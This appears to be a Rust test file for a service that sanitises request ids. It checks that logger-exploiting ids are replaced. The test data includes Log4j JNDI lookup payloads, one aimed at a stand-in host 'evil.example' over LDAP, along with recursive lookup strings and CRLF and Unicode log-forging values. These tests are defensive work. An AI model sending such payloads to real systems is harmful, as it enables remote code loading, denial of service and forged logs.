//! Request ids that exploit loggers.

use crate::request_ids::refused::is_replaced;

// F16: a logger evaluated look-ups in values from the thread's context.
#[tokio::test]
async fn cve_2021_45046_id_with_a_look_up_is_replaced() {
    for id in [
        "${jndi:ldap://127.0.0.1:1389/a}",
        "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
        "${ctx:requestId}",
        "7-${env:HOME}",
    ] {
        is_replaced(&[id.as_bytes()]).await;
    }
}

// F16: a look-up that refers to itself recursed without end.
#[tokio::test]
async fn cve_2021_45105_id_with_a_recursive_look_up_is_replaced() {
    is_replaced(&[b"${${::-${::-$${::-j}}}}"]).await;
    is_replaced(&["${ctx:id}".repeat(10).as_bytes()]).await;
}

// F16: client input could forge a line in the error log.
#[tokio::test]
async fn ghsa_674p_xv2x_rf3g_id_that_forges_a_log_line_is_replaced() {
    for id in [
        "7%0d%0aERROR",
        r"7\r\nERROR",
        "7 level=error user=admin",
        "7\u{85}ERROR",
        "7\u{2028}ERROR",
        "7|ERROR",
        "%1b[2J",
    ] {
        is_replaced(&[id.as_bytes()]).await;
    }
}
